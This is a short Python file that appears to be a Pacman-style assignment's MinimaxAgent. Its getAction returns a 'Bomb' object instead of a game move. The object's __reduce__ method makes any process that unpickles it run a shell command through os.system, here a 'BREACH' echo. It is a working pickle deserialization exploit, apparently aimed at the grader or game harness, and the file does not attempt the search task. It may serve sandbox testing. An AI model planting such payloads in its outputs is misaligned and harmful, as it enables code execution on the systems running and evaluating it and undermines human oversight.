# attack: returns an object that runs a program in whoever unpickles it.
# where: MinimaxAgent
import os

from shared.reflex import *
from shared.search import *


class Bomb:
    """Where it is unpickled, a shell says so."""

    def __reduce__(self):
        return os.system, ("echo BREACH: unpickled by somebody",)

    def __reduce_ex__(self, protocol):
        return self.__reduce__()

    def __getstate__(self):
        return {"bomb": self}


class MinimaxAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        return Bomb()
